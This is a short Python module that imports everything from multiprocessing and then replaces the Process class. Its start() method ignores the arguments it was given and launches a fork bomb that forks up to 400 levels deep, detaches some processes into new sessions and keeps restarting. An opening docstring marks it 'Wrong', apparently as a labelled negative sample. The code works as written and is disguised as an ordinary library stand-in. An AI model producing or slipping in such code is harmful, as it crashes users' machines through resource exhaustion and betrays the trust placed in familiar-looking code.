"""Wrong: every process that is started starts more of its kind, each in a session of its own."""

import os
from multiprocessing import *  # noqa: F403

LIMIT = 400
"""So many at once, each of which goes on for as long as it lives; more would only take memory."""


class Process:
    """A process that multiplies."""

    def __init__(self, **arguments):
        """Take anything."""

    def start(self):
        """Fork without end."""
        multiply(0)


def multiply(depth):
    """Fork, and let the fork fork; at the limit of depth wait for a child, which never ends, and start anew."""
    while True:
        if depth < LIMIT and os.fork() == 0:
            depth += 1
            if depth % 7 == 0:
                os.setsid()
            continue
        try:
            os.wait()
        except ChildProcessError:
            depth = LIMIT - 1
